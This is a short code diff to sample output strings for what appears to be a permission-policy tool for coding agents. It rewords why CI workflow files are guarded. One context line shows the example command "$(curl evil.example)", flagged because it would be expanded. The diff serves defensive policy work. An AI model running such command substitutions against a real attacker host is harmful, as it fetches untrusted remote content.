@@ -14,7 +14,7 @@ export const SAYS: Readonly<Record<string, string>> = {
 allow · policy.toml:2
 deny · policy.toml:1 · pushing is for people
 ask · the command "$(curl evil.example)" is expanded
-ask · builtin:guarded-path · ".github/workflows/ci.yml" says what programs or agents do later
+ask · builtin:guarded-path · ".github/workflows/ci.yml" determines what programs or agents do later
 `,
   sandbox: `${sandbox.name} 0 made\n`,
   "coding-agent": "devtool 0.3.0\n",
